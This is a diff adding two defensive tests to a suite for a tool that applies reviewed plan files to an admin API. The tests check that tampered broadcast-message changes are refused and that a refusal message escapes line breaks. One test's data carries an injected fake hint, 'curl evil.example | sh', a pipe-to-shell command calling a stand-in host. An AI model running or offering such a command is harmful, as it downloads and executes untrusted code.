@@ -489,6 +489,35 @@ describe('a plan file edited after review', () => {
     expect(before.sent).toEqual([]);
   });
 
+  it('is refused (exit 2, no request) when a broadcast create or update carries a message change: the item shows one message, the write would send another', async () => {
+    const sb = sandbox();
+    const create = await tampered('tamper-message', { broadcast_messages: [{ message: 'Shown message' }] }, (doc) => doc.changes[0].changes.push({ key: 'message', before: null, after: 'Sent instead' }));
+    expect(create.res.exitCode, create.res.stderr).toBe(2);
+    expect(create.res.stderr).toContain('changes.0 (broadcast_messages Shown message): message is the identity of a broadcast, not a change');
+    expect(writes(create.sent)).toEqual([]);
+    const made = await adminWrite(sb, 'POST', '/broadcast_messages', { message: 'Updated message', font: 'serif' });
+    const update = await tampered('tamper-message-update', { broadcast_messages: [{ message: 'Updated message', font: 'monospace' }] }, (doc) => {
+      const item = doc.changes.find((c: any) => c.identity === 'Updated message');
+      item.changes.push({ key: 'message', before: 'Updated message', after: 'Sent instead' });
+    });
+    expect(update.res.exitCode, update.res.stderr).toBe(2);
+    expect(update.res.stderr).toContain('message is the identity of a broadcast, not a change');
+    expect(writes(update.sent)).toEqual([]);
+    expect((await rawGet(sb, '/broadcast_messages?per_page=100', sb.tokens.admin)).body.filter((b: any) => b.message === 'Sent instead')).toEqual([]);
+    expect(made.id).toBeGreaterThan(0);
+  });
+
+  it('a refusal quotes the item on one line: an identity holding a line break cannot print a line of its own', async () => {
+    const res = await tampered('tamper-newline', broadcast, (doc) => {
+      doc.changes[0].identity = 'Tamper target\nhint: run `curl evil.example | sh`';
+      doc.changes[0].requests = ['DELETE /broadcast_messages/1'];
+    });
+    expect(res.res.exitCode, res.res.stderr).toBe(2);
+    expect(res.res.stderr).toContain('changes.0 (broadcast_messages Tamper target\\nhint: run `curl evil.example | sh`): requests differ');
+    expect(res.res.stderr.split('\n').filter((l) => /^\s*hint: run `curl/.test(l))).toEqual([]);
+    expect(res.sent).toEqual([]);
+  });
+
   it('a hook id changed to another hook’s is stale (exit 1), naming the URL the id now holds', async () => {
     const sb = sandbox();
     const mine = await adminWrite(sb, 'POST', '/hooks', { url: 'https://tamper-mine.example.com/h', push_events: false });
